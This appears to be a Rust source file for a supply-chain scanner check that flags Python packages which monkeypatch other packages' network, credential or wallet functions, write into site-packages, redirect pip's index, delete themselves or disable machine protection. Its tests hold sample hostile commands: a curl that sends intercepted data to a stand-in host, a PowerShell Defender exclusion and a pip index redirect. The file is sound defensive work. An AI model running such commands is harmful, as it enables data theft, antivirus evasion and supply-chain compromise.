//! Refuses code that changes other packages, the interpreter or the protection of the machine.

use Severity::{High, Low, Medium};
use spip_core::{
    Act, Check, Contents, Context, Deed, Finding, Package, Severity, Stop, Taints, Trigger,
};

use crate::contents::{
    self, Address, Menace, NOTHING, Suspicions, addresses, commands, is_configuration, is_early,
    weigh,
};

describe! {
    /// ## What it asks
    ///
    /// Does the code, unasked, replace functions of other packages that handle requests, credentials or
    /// processes? Does it write or delete among other packages' files, change where `pip`, `npm` or
    /// `git` fetch things from, or switch off protection and records of the machine?
    ///
    /// Instrumentation that somebody has to call (gevent, tracing, test tools) is left alone, and
    /// so is a package that changes itself.
    ///
    /// ## Why it matters
    ///
    /// Code that was judged harmless then does something else, and so does every installation after it.
    ///
    /// ## What to do
    ///
    /// Do not install it. Where it ran, make the environment anew.
    pub(super) struct EnvironmentTampering {
        id: "environment-tampering",
        summary: "code changes other packages, the interpreter or the machine's protection",
        worst: High,
        needs: Contents,
    }
}

const REPLACES: &str = "replaces functions of other packages";
const WRITES: &str = "changes other packages' files";
const HIDES: &str = "deletes itself";
const REDIRECTS: &str = "changes where tools fetch things from";
const DISARMS: &str = "switches off protection or records";
const UNVERIFIED: &str = "switches off the checking of certificates for everybody";

impl Check for EnvironmentTampering {
    fn run(
        &self,
        package: &Package,
        cx: &Context<'_>,
        found: &mut Vec<Finding>,
    ) -> Result<(), Stop> {
        let contents = contents::read(package, cx)?;
        let mut suspicions = Suspicions::default();
        let weighed = |severity| contents::unless_installer(package, severity);
        for act in &contents.acts {
            match act.deed {
                Deed::Patch if is_unverified(act) => {
                    suspicions.act(weigh(act.trigger, Low, NOTHING), UNVERIFIED, act);
                }
                Deed::Patch => suspicions.act(patched(&contents, act), REPLACES, act),
                Deed::Write => {
                    suspicions.act(weighed(written(act)), WRITES, act);
                    suspicions.act(weighed(configured(act)), REDIRECTS, act);
                }
                Deed::Delete => {
                    suspicions.act(weighed(written(act)), WRITES, act);
                    suspicions.act(weighed(vanishes(act)), HIDES, act);
                }
                _ => {}
            }
        }
        for command in commands(&contents) {
            let menaces = command.menaces();
            let on_use = if command.is_known() { Medium } else { Low };
            for (menace, what) in [
                (Menace::Reconfigures, REDIRECTS),
                (Menace::Disarms, DISARMS),
            ] {
                if menaces.contains(&menace) {
                    suspicions.command(weigh(command.trigger, High, on_use), what, &command);
                }
            }
        }
        suspicions.report(
            "do not install it; where it ran, make the environment anew",
            found,
        );
        Ok(())
    }
}

/// Functions through which secrets, requests and programs of others go.
const SENSITIVE: &[&str] = &[
    // A method of a class that is only known by its name.
    "?.",
    "requests.",
    "urllib3.",
    "httpx.",
    "aiohttp.",
    "http.client.",
    "urllib.request.",
    "socket.socket",
    "socket.create_connection",
    "socket.getaddrinfo",
    "getpass.",
    "keyring.",
    "boto3.",
    "botocore.",
    "paramiko.",
    "smtplib.",
    "builtins.input",
    "builtins.open",
    "builtins.exec",
    "builtins.eval",
    "builtins.compile",
    "builtins.__import__",
    "builtins.__build_class__",
    "subprocess.",
    "os.system",
    "os.popen",
    "os.execv",
    "pip.",
    "ssl.SSLContext",
    "ssl.SSLSocket",
    "importlib.",
    "sys.modules.requests",
    "sys.modules.urllib3",
    "sys.modules.pip",
    "sys.modules.ssl",
    "sys.modules.socket",
    "sys.modules.subprocess",
    "sys.modules.builtins",
    "pickle.load",
    "json.loads",
    "hashlib.",
    "hmac.",
    "eth_account.",
    "web3.",
    "solders.",
    "solana.",
    "openai.",
    "anthropic.",
    "nacl.",
    "cryptography.",
    "jwt.",
    "mnemonic.",
    "bip_utils.",
    "bitcoinlib.",
    "django.contrib.auth.",
    "flask_login.",
    "passlib.",
    "bcrypt.",
    "psycopg2.",
    "psycopg.",
    "pymysql.",
    "sqlalchemy.create_engine",
    "redis.",
    "ldap3.",
    "telethon.",
    "pyrogram.",
    "httplib2.",
    "websockets.",
    "grpc.",
    "ssl.wrap_socket",
    "logging.Logger.",
    "os.getenv",
    "os.environ",
];

/// A function of somebody else that is replaced. Who calls something afterwards is seen in the
/// same file: a replacement that also sends copies what it is handed.
fn patched(contents: &Contents, act: &Act) -> Option<Severity> {
    let target = act.callee.as_str();
    let own = act.site.member.split('/').next().unwrap_or_default();
    let is_own = target.split('.').next() == Some(own) || target.contains(&format!(".{own}"));
    let is_sensitive = SENSITIVE
        .iter()
        .any(|it| target.starts_with(it) || format!("{target}.").starts_with(it));
    if is_own || !is_sensitive || is_detail(target) {
        return None;
    }
    let sends = contents.acts_of(Deed::Send).any(|send| {
        let is_near = send.site.member == act.site.member && send.trigger != Trigger::Never;
        let addresses = addresses(send);
        is_near && (addresses.iter().any(Address::is_foreign) || send.taints.any(Taints::SECRETS))
    });
    let is_handed_over = || {
        commands(contents).iter().any(|command| {
            let is_near = command.site.member == act.site.member;
            is_near && command.trigger != Trigger::Never && command.sends_abroad()
        })
    };
    if sends || is_handed_over() {
        return weigh(act.trigger, High, Medium);
    }
    let severity = if act.trigger == Trigger::Build || !leads_out(contents, act) {
        Low
    } else {
        Medium
    };
    weigh(act.trigger, severity, NOTHING)
}

/// A part of theirs that nothing of their users goes through: what they keep to themselves,
/// constants, answers that get another method.
fn is_detail(target: &str) -> bool {
    let name = target.rsplit('.').next().unwrap_or(target);
    let is_private = name.starts_with('_') && !name.starts_with("__");
    let is_constant = name.len() > 1 && !name.contains(|it: char| it.is_ascii_lowercase());
    is_private || is_constant || is_beside_requests(target)
}

/// Whether it belongs to a class of an HTTP library through which no request goes.
fn is_beside_requests(target: &str) -> bool {
    const LIBRARIES: [&str; 6] = ["requests", "urllib3", "httpx", "aiohttp", "http", "urllib"];
    const WAYS: [&str; 14] = [
        "Session",
        "HTTPAdapter",
        "HTTPConnection",
        "HTTPSConnection",
        "HTTPConnectionPool",
        "HTTPSConnectionPool",
        "PoolManager",
        "Client",
        "AsyncClient",
        "ClientSession",
        "Request",
        "PreparedRequest",
        "OpenerDirector",
        "HTTPHandler",
    ];
    let mut parts = target.split('.');
    let is_library = parts.next().is_some_and(|top| LIBRARIES.contains(&top));
    let class = parts.find(|part| part.starts_with(|it: char| it.is_ascii_uppercase()));
    is_library && class.is_some_and(|class| !WAYS.contains(&class))
}

/// Whether something that a replacement could hand on to leaves the process: in the same file, or
/// to an address that the package names. Calling what was replaced, once, is what wrappers do.
fn leads_out(contents: &Contents, patch: &Act) -> bool {
    // Methods are named after what their class makes: `Class().method`.
    let is_original = |act: &Act| act.callee.replace("()", "") == patch.callee;
    // Functions of one family are wrapped by one function.
    let replaced: Vec<&str> = contents
        .acts_of(Deed::Patch)
        .filter(|act| act.site.member == patch.site.member)
        .map(|act| act.callee.as_str())
        .collect();
    let is_replaced = |act: &Act| replaced.contains(&act.callee.replace("()", "").as_str());
    let calls_original = contents
        .acts
        .iter()
        .filter(|act| act.site.member == patch.site.member && is_original(act))
        .filter(|act| act.deed != Deed::Patch)
        .count();
    let leaves = |act: &&Act| {
        matches!(
            act.deed,
            Deed::Send | Deed::Connect | Deed::Spawn | Deed::Write | Deed::Execute
        )
    };
    calls_original > 1
        || contents.acts.iter().filter(leaves).any(|act| {
            let is_near = act.site.member == patch.site.member && !is_replaced(act);
            let is_foreign = || addresses(act).iter().any(Address::is_foreign);
            act.trigger != Trigger::Never && (is_near || act.deed == Deed::Send && is_foreign())
        })
}

fn is_unverified(act: &Act) -> bool {
    act.callee.contains("_create_default_https_context") || act.callee.ends_with("disable_warnings")
}

/// Files among the packages that are written or deleted unasked.
fn written(act: &Act) -> Option<Severity> {
    let path = act.texts.first().map_or("", String::as_str);
    let is_among = act.taints.any(Taints::SITE_PACKAGES)
        || path.contains("site-packages")
        || path.contains("dist-packages");
    let own = act.site.member.split('/').next().unwrap_or_default();
    let is_own = path.contains(&format!("site-packages}}/{own}/"));
    // Start-up files are the business of `persistence`.
    if !is_among || is_own || contents::autostart(path).is_some() {
        return None;
    }
    match act.trigger {
        Trigger::Build => Some(Medium),
        trigger => weigh(trigger, High, NOTHING),
    }
}

fn configured(act: &Act) -> Option<Severity> {
    let is_there = act.texts.first().is_some_and(|path| is_configuration(path));
    let on_use = if act.taints.any(Taints::PARAMETER) {
        NOTHING
    } else {
        Some(Low)
    };
    is_there.then(|| weigh(act.trigger, High, on_use)).flatten()
}

/// A module that removes its own file once it ran leaves nothing to look at.
fn vanishes(act: &Act) -> Option<Severity> {
    let member = act.site.member.as_str();
    let is_self = act
        .texts
        .first()
        .is_some_and(|path| path.contains("__file__") || contents::mentions(act, member));
    // Version files are replaced by whoever names them.
    let is_told = act.taints.any(Taints::PARAMETER);
    (is_self && !is_told && is_early(act.trigger)).then_some(Medium)
}

#[cfg(test)]
mod tests {
    use spip_core::{Deed, Origin, Taints, Trigger};

    use super::EnvironmentTampering;
    use crate::testing::{ActBuilder, World, act, assert_shows, demo, url};

    fn patch(target: &str) -> ActBuilder {
        act(Deed::Patch, target)
    }

    #[test]
    fn flags_replaced_functions_of_others() {
        for target in [
            "requests.Session.send",
            "builtins.open",
            "getpass.getpass",
            "subprocess.Popen",
            "urllib3.connectionpool.HTTPConnectionPool.urlopen",
        ] {
            let expected = "low: replaces functions of other packages, when it is imported";
            assert_shows(
                &EnvironmentTampering,
                demo().acting(patch(target)),
                expected,
            );
            for way in [
                act(Deed::Write, "open().write").texts(&["/tmp/x"]),
                act(Deed::Send, "requests.post")
                    .texts(&["https://h.invalid"])
                    .at("demo/net.py", 1)
                    .when(Trigger::Call),
            ] {
                let expected = "medium: replaces functions of other packages, when it is imported";
                let world = demo().acting(patch(target)).acting(way);
                assert_shows(&EnvironmentTampering, world, expected);
            }
        }
    }

    #[test]
    fn accepts_wrappers_that_call_what_they_replaced() {
        let original = act(Deed::Send, "http.client.HTTPConnection().request");
        let world = demo()
            .acting(patch("http.client.HTTPConnection.request"))
            .acting(original.clone().when(Trigger::Call));
        let expected = "low: replaces functions of other packages, when it is imported";
        assert_shows(&EnvironmentTampering, world, expected);
        let world = demo()
            .acting(patch("http.client.HTTPConnection.request"))
            .acting(original.clone().when(Trigger::Call))
            .acting(original);
        let expected = "medium: replaces functions of other packages, when it is imported";
        assert_shows(&EnvironmentTampering, world, expected);
    }

    #[test]
    fn accepts_replaced_details() {
        let world = demo()
            .acting(act(Deed::Write, "open().write").texts(&["/tmp/x"]))
            .acting(patch("requests.Response.success"))
            .acting(patch("urllib3.util.url._PERCENT_RE"))
            .acting(patch("subprocess.PIPE"));
        assert_shows(&EnvironmentTampering, world, "complete");
    }

    #[test]
    fn flags_replacements_that_send() {
        let send = act(Deed::Send, "requests.post")
            .texts(&["https://h.invalid"])
            .when(Trigger::Call);
        let world = demo()
            .acting(patch("requests.Session.send"))
            .acting(send.clone());
        assert_shows(
            &EnvironmentTampering,
            world,
            "high: replaces functions of other packages, when it is imported",
        );
        let world = demo()
            .acting(patch("requests.Session.send").when(Trigger::Call))
            .acting(send);
        assert_shows(
            &EnvironmentTampering,
            world,
            "medium: replaces functions of other packages, when it is used",
        );
    }

    #[test]
    fn flags_replacements_that_hand_what_they_see_to_a_program() {
        let spawn = act(Deed::Spawn, "subprocess.run")
            .texts(&["curl -s --data-binary @- https://h.invalid/in"])
            .when(Trigger::Call);
        let world = demo()
            .acting(patch("http.client.HTTPConnection.putheader"))
            .acting(spawn);
        assert_shows(
            &EnvironmentTampering,
            world,
            "high: replaces functions of other packages, when it is imported",
        );
    }

    #[test]
    fn flags_files_among_the_packages_and_of_tools() {
        let write = act(Deed::Write, "open().write")
            .texts(&["\u{fffc}/requests/api.py"])
            .tainted(Taints::SITE_PACKAGES);
        assert_shows(
            &EnvironmentTampering,
            demo().acting(write),
            "high: changes other packages' files, when it is imported",
        );
        let config = act(Deed::Write, "open().write").texts(&["\u{fffc}/.pip/pip.conf"]);
        assert_shows(
            &EnvironmentTampering,
            demo().acting(config),
            "high: changes where tools fetch things from, when it is imported",
        );
        let itself = act(Deed::Delete, "os.remove").texts(&["\u{fffc}/demo/__init__.py"]);
        assert_shows(
            &EnvironmentTampering,
            demo().acting(itself),
            "medium: deletes itself, when it is imported",
        );
    }

    #[test]
    fn flags_commands_that_disarm_or_redirect() {
        for (text, what) in [
            (
                "powershell Add-MpPreference -ExclusionPath C:\\",
                "switches off protection or records",
            ),
            (
                "pip config set global.index-url http://h.invalid",
                "changes where tools fetch things from",
            ),
        ] {
            let spawn = act(Deed::Spawn, "os.system")
                .texts(&[text])
                .when(Trigger::Build);
            let expected = format!("high: {what}, when it is built");
            assert_shows(&EnvironmentTampering, demo().acting(spawn), &expected);
        }
    }

    #[test]
    fn accepts_instrumentation_compatibility_and_its_own_parts() {
        let world = demo()
            .acting(patch("socket.socket").when(Trigger::Call))
            .acting(patch("requests.Session.send").when(Trigger::Call))
            .acting(patch("sys.modules"))
            .acting(patch("sys.meta_path"))
            .acting(patch("sys.excepthook"))
            .acting(patch("demo.core.open"))
            .acting(patch("requests.Session.send").at("requests/compat.py", 3))
            .acting(
                act(Deed::Write, "open")
                    .texts(&["\u{fffc}/x.py"])
                    .tainted(Taints::SITE_PACKAGES)
                    .when(Trigger::Call),
            )
            .acting(act(Deed::Delete, "os.remove").texts(&["/tmp/x"]));
        assert_shows(&EnvironmentTampering, world, "complete");
        let ssl = demo().acting(patch("ssl._create_default_https_context"));
        assert_shows(
            &EnvironmentTampering,
            ssl,
            "low: switches off the checking of certificates for everybody, when it is imported",
        );
    }

    #[test]
    fn excuses_installers_by_where_they_come_from() {
        let write = act(Deed::Write, "open().write")
            .texts(&["\u{fffc}/requests/api.py"])
            .tainted(Taints::SITE_PACKAGES);
        let world = || World::new("wheel", "1.0").acting(write.clone());
        assert_shows(&EnvironmentTampering, world(), "complete");
        let changes = "changes other packages' files, when it is imported";
        let remote = world().from(Origin::Requested);
        assert_shows(&EnvironmentTampering, remote, &format!("high: {changes}"));
        let mut local = world().from(Origin::Requested);
        local.file_mut().url = url("file:///tmp/wheel-1.0-py3-none-any.whl");
        assert_shows(&EnvironmentTampering, local, &format!("low: {changes}"));
        let directory = world().directory();
        assert_shows(&EnvironmentTampering, directory, &format!("low: {changes}"));
    }

    #[test]
    fn leaves_a_gap_when_the_files_cannot_be_read() {
        assert_shows(
            &EnvironmentTampering,
            demo().offline(),
            "incomplete: offline",
        );
    }
}
